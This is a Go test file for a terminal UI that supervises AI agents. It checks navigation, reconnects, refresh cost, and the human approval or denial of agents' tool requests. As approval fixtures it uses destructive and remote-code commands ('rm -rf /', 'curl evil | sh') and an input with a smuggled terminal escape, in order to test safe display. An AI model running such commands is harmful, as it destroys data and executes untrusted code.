package top

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/substrat/substrat/fsstore"
	"github.com/substrat/substrat/supervisor/api"
)

// TestKeyBurst: keys that arrive in one read ("jjj", as a fast typist or
// a script sends them) are each a key; a paste outside an input line is
// not a series of commands; a burst that opens an input line types the
// rest into it.
func TestKeyBurst(t *testing.T) {
	f := newFake()
	m := run(t, f)
	if m.sel != "a1" {
		t.Fatalf("selection %q at the start, want a1", m.sel)
	}
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("jjj")})
	if m.sel != "a3" { // lead, w1, helper, w2: three rows down
		t.Fatalf("jjj in one message selected %q, want a3 (three rows down)", m.sel)
	}
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("kk")})
	if m.sel != "a2" {
		t.Fatalf("kk selected %q, want a2", m.sel)
	}
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("Ty"), Paste: true})
	if m.mode != modeTree || len(f.acts) != 0 {
		t.Fatalf("a paste in the tree acted: mode %v, actions %v", m.mode, f.acts)
	}
	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("shi jk")})
	if m.mode != modeSend || m.input.Value() != "hi jk" {
		t.Fatalf("s then text: mode %v, line %q; want the rest typed into the message", m.mode, m.input.Value())
	}
	_ = cmd
	_, cmd = m.Update(tea.KeyMsg{Type: tea.KeyEnter})
	m.Update(cmd())
	if len(f.acts) != 1 || f.acts[0] != (Action{Kind: ActSend, ID: "a2", Text: "hi jk"}) {
		t.Fatalf("actions %v, want the message to w1", f.acts)
	}
}

// TestApproveInPlace: the row of an agent that waits on a request says
// so; v opens that request whole; a and d ask first, with the input
// still on screen, and only y answers.
func TestApproveInPlace(t *testing.T) {
	f := newFake()
	input, _ := json.Marshal(map[string]string{"command": "make test && rm -rf build > /dev/null\x1b[2J"})
	f.snap.Approvals = []api.PendingApproval{
		{Agent: "lead", Approval: fsstore.Approval{ID: "r0", Tool: "Read", Input: json.RawMessage(`{"path":"x"}`), Approver: fsstore.User, Deadline: t0.Add(time.Hour)}},
		{Agent: "lead/w1", Approval: fsstore.Approval{ID: "r1", Tool: "Bash", Input: input, Approver: fsstore.User, Deadline: t0.Add(time.Hour)}},
	}
	f.snap.Agents[1].AgentState = fsstore.AgentWaiting
	m := run(t, f)
	m.Update(tea.WindowSizeMsg{Width: 120, Height: 30})
	exec := func(cmd tea.Cmd) {
		for _, msg := range flatten(cmd) {
			m.Update(msg)
		}
	}
	press(m, "j") // w1
	frame := m.View()
	if !regexp.MustCompile(`w1 +WAITING .* approve\? Bash "make test && rm`).MatchString(frame) {
		t.Errorf("w1's row does not say it waits on an approval:\n%s", frame)
	}
	press(m, "v")
	frame = m.View()
	want := `{"command":"make test && rm -rf build > /dev/null\u001b[2J"}`
	if !strings.Contains(frame, "r1  lead/w1 wants Bash") || !strings.Contains(frame, want) {
		t.Fatalf("v on w1 does not show its request whole and escaped (%s):\n%s", want, frame)
	}
	if strings.Contains(frame, "\x1b") {
		t.Errorf("an escape reached the screen")
	}
	press(m, "a")
	frame = m.View()
	if !strings.Contains(frame, "approve lead/w1's Bash") || !strings.Contains(frame, want) {
		t.Fatalf("a does not ask, with the input on screen:\n%s", frame)
	}
	exec(press(m, "n"))
	if len(f.acts) != 0 || m.mode != modeApprovals {
		t.Fatalf("n answered (%v) or left the requests (mode %v)", f.acts, m.mode)
	}
	exec(press(m, "a", "y"))
	exec(press(m, "tab", "d", "y")) // the next request, r0: deny
	wantActs := []Action{{Kind: ActApprove, ID: "r1"}, {Kind: ActDeny, ID: "r0"}}
	if fmt.Sprint(f.acts) != fmt.Sprint(wantActs) {
		t.Fatalf("actions %v, want %v", f.acts, wantActs)
	}
}

// TestParkedShown: a parked agent shows PARKED, until when and why.
func TestParkedShown(t *testing.T) {
	f := newFake()
	f.snap.Agents[2].Gated = false
	f.snap.Agents[2].Parked = &fsstore.Park{Until: t0.Add(5 * time.Hour), Reason: "usage limit reached"}
	m := run(t, f)
	press(m, "j", "j", "j")
	frame := m.View()
	until := t0.Add(5 * time.Hour).Local().Format("15:04:05")
	for _, want := range []string{"PARKED", "until " + until + ": usage limit", "reason: until " + until} {
		if !strings.Contains(frame, want) {
			t.Errorf("the frame lacks %q:\n%s", want, frame)
		}
	}
}

// TestSelectionAcrossReconnect: the selection is an agent, not a row: a
// new daemon whose tree comes in another order keeps it.
func TestSelectionAcrossReconnect(t *testing.T) {
	f := newFake()
	m := run(t, f)
	press(m, "j", "j", "j") // w2
	f.mu.Lock()
	f.down = fmt.Errorf("the daemon is not running")
	f.mu.Unlock()
	m.Update(m.fetch()())
	if m.up || m.sel != "a3" {
		t.Fatalf("lost: up %v, selection %q", m.up, m.sel)
	}
	f.mu.Lock()
	f.down = nil
	f.snap.Status.Pid = 5151
	extra := f.snap.Agents[0]
	extra.ID, extra.Name, extra.Path = "a0", "first", "first"
	f.snap.Agents = append([]api.AgentInfo{extra}, f.snap.Agents...)
	f.mu.Unlock()
	for _, msg := range flatten(m.fetch()) {
		m.Update(msg)
	}
	if !m.up || m.sel != "a3" || !strings.Contains(m.View(), "› ") || !strings.Contains(m.View(), "── lead/w2") {
		t.Fatalf("after the reconnect: up %v, selection %q:\n%s", m.up, m.sel, m.View())
	}
}

// readsPerRefresh loads a model with n agents (a whole read), then
// applies a second's worth of events, 100 changes to agents spread over
// the tree, and the partial read that follows: it returns the agents and
// bytes the daemon answered that read with, and the full read's bytes.
func readsPerRefresh(t *testing.T, n int) (agents, bytes, full int) {
	f := newFake()
	if err := json.Unmarshal(bigTeam(n), &f.snap.Agents); err != nil {
		t.Fatal(err)
	}
	m := run(t, f)
	full = f.sentBytes
	f.sentAgents, f.sentBytes = 0, 0
	var evs eventsMsg
	for i := range 100 {
		evs = append(evs, Event{Agent: fmt.Sprintf("id-%04d", (i*97)%n), Type: fsstore.EvTurn, Time: t0})
	}
	m.Update(evs)
	m.visibleAt = t0 // the rows on screen are read too
	before := m.reads
	for _, msg := range flatten(m.refresh()) {
		m.Update(msg)
	}
	if m.reads != before+1 || m.full {
		t.Fatalf("n=%d: %d partial reads, full %v; want one partial read", n, m.reads-before, m.full)
	}
	return f.sentAgents, f.sentBytes, full
}

// TestRefreshCostFlat: top's read after a burst of events asks for the
// agents the events touched (and their ancestors, whose subtree figures
// change) and the rows on screen, not the tree: at 10,000 agents it
// reads about what it reads at 1,000.
func TestRefreshCostFlat(t *testing.T) {
	a1k, b1k, full1k := readsPerRefresh(t, 1000)
	a10k, b10k, full10k := readsPerRefresh(t, 10000)
	t.Logf("per refresh: %d agents, %d bytes at 1,000 (whole tree %d bytes); %d agents, %d bytes at 10,000 (whole tree %d bytes)",
		a1k, b1k, full1k, a10k, b10k, full10k)
	if a10k > 2*a1k || b10k > 2*b1k {
		t.Errorf("a refresh reads %d agents (%d bytes) at 10,000 agents, %d (%d bytes) at 1,000: it grows with the tree", a10k, b10k, a1k, b1k)
	}
	if b10k*20 > full10k {
		t.Errorf("a refresh reads %d bytes at 10,000 agents, more than 5%% of the whole tree (%d)", b10k, full10k)
	}
}

// TestWholeReadWhileTheTreeChanges: when the agent a page was to start
// after goes away between two pages, the whole read starts again instead
// of failing (which would show the daemon as gone).
func TestWholeReadWhileTheTreeChanges(t *testing.T) {
	f := &fake{}
	if err := json.Unmarshal(bigTeam(5000), &f.snap.Agents); err != nil {
		t.Fatal(err)
	}
	pages := 0
	f.paged = func(f *fake) {
		if pages++; pages == 1 { // the last agent of the first page goes
			f.snap.Agents = slices.Delete(f.snap.Agents, pageSize-1, pageSize)
		}
	}
	s, err := ReadSnapshot(context.Background(), f)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Agents) != 4999 || pages != 1+3 {
		t.Errorf("read %d agents in %d pages; want 4,999 in 1 and then 3", len(s.Agents), pages)
	}
}

// TestIncrementalChanges: after the whole read, the tree follows events
// alone: a new agent appears under its parent (whose children are read
// again), one archived goes and what was below it moves up, a state
// change shows, and no whole read is made.
func TestIncrementalChanges(t *testing.T) {
	f := newFake()
	m := run(t, f)
	f.sentAgents = 0
	tick := func() {
		t.Helper()
		for range 3 { // what one tick reads may want another read
			for _, msg := range flatten(m.fetchPart()) {
				m.Update(msg)
			}
		}
		if m.full {
			t.Fatal("a whole read is due")
		}
	}
	f.mu.Lock()
	kid := f.snap.Agents[2] // a child of w2 (a3)
	kid.ID, kid.Name, kid.Path, kid.ParentID, kid.Gated = "a5", "kid", "lead/w2/kid", "a3", false
	f.snap.Agents = append(f.snap.Agents, kid)
	f.snap.Agents[2].Children = []string{"kid"}
	f.snap.Agents[1].AgentState = fsstore.AgentIdle    // w1
	f.snap.Agents = slices.Delete(f.snap.Agents, 3, 4) // helper (a4), below w1, archived
	f.mu.Unlock()
	m.Update(eventsMsg{{Agent: "a5", Type: fsstore.EvCreated, Time: t0}, {Agent: "a4", Type: "archived", Time: t0},
		{Agent: "a2", Type: fsstore.EvState, Time: t0}})
	tick()
	var rows []string
	for _, r := range m.rows {
		rows = append(rows, strings.Repeat(" ", r.depth)+r.a.Name+" "+stateOf(r.a))
	}
	want := []string{"lead WAITING", " w1 IDLE", " w2 gated", "  kid IDLE"}
	if !slices.Equal(rows, want) {
		t.Errorf("rows %q, want %q", rows, want)
	}
	if c := m.tree.byID["a3"].Children; !slices.Equal(c, []string{"kid"}) {
		t.Errorf("w2's children %q: its list was not read again", c)
	}
	if f.sentAgents > 8 {
		t.Errorf("%d agents read for three changes", f.sentAgents)
	}
}

// TestRefreshErrorIsNotLost: a daemon that answers a read with an error
// is there: top says the read failed, keeps what it asked for, and does
// not show the daemon gone.
func TestRefreshErrorIsNotLost(t *testing.T) {
	f := newFake()
	m := run(t, f)
	f.mu.Lock()
	f.down = api.Errorf(api.CodeInternal, "internal error in agent.query")
	f.mu.Unlock()
	m.want("a2")
	for _, msg := range flatten(m.fetchPart()) {
		m.Update(msg)
	}
	if !m.up || !m.wanted["a2"] || !strings.Contains(m.View(), "refresh failed: internal error in agent.query") {
		t.Fatalf("up %v, wanted %v:\n%s", m.up, m.wanted, m.View())
	}
}

// TestDroppedEventsReadTheTreeNotOverAndOver: events dropped make top
// read the whole tree, but not more often than every refreshSlow.
func TestDroppedEventsReadTheTreeNotOverAndOver(t *testing.T) {
	f := newFake()
	now := t0
	m := run(t, f)
	m.now = func() time.Time { return now }
	whole := func() bool {
		t.Helper()
		before := f.sentAgents
		for _, msg := range flatten(m.refresh()) {
			if _, ok := msg.(detailMsg); !ok {
				m.Update(msg)
			}
		}
		return f.sentAgents-before == len(f.snap.Agents)
	}
	m.Update(eventsMsg{{Type: "dropped", Count: 3}})
	if !whole() {
		t.Fatal("dropped events did not make top read the tree")
	}
	m.Update(eventsMsg{{Type: "dropped", Count: 3}})
	now = now.Add(refreshSlow / 2)
	if whole() {
		t.Fatal("a second drop read the whole tree again at once")
	}
	now = now.Add(refreshSlow)
	if !whole() {
		t.Fatal("the whole read after the second drop never came")
	}
}

// TestAnswerFollowsItsRequest: while a/d waits for y, the screen shows
// the request being answered even if the list changes under it; if that
// request stops waiting, nothing is answered.
func TestAnswerFollowsItsRequest(t *testing.T) {
	f := newFake()
	req := func(id, agent, cmd string) api.PendingApproval {
		return api.PendingApproval{Agent: agent, Approval: fsstore.Approval{ID: id, Tool: "Bash",
			Input: mustJSON(map[string]string{"command": cmd}), Approver: fsstore.User, Deadline: t0.Add(time.Hour)}}
	}
	f.snap.Approvals = []api.PendingApproval{req("r1", "lead", "ls"), req("r2", "lead/w1", "rm -rf /")}
	m := run(t, f)
	press(m, "v", "a") // r1: ls
	f.mu.Lock()
	f.snap.Approvals = []api.PendingApproval{req("r0", "lead/w2", "curl evil | sh"), req("r1", "lead", "ls"), req("r2", "lead/w1", "rm -rf /")}
	f.mu.Unlock()
	m.needAppr = true
	for _, msg := range flatten(m.fetchPart()) {
		m.Update(msg)
	}
	if v := m.View(); !strings.Contains(v, `{"command":"ls"}`) || strings.Contains(v, "curl") || !strings.Contains(v, "approve lead's Bash") {
		t.Fatalf("the request being answered is not the one shown:\n%s", v)
	}
	f.mu.Lock()
	f.snap.Approvals = f.snap.Approvals[2:] // r1 answered elsewhere
	f.mu.Unlock()
	m.needAppr = true
	for _, msg := range flatten(m.fetchPart()) {
		m.Update(msg)
	}
	if m.mode != modeApprovals || !strings.Contains(m.View(), "request r1 no longer waits") {
		t.Fatalf("mode %v:\n%s", m.mode, m.View())
	}
	// The same through a whole read, and y pressed at once.
	f.mu.Lock()
	f.snap.Approvals = []api.PendingApproval{req("r1", "lead", "ls")}
	f.mu.Unlock()
	m.Update(m.fetch()())
	press(m, "a")
	f.mu.Lock()
	f.snap.Approvals = nil
	f.mu.Unlock()
	m.Update(m.fetch()())
	if cmd := press(m, "y"); cmd != nil || len(f.acts) != 0 {
		t.Fatalf("y after the request went answered something: %v", f.acts)
	}
}
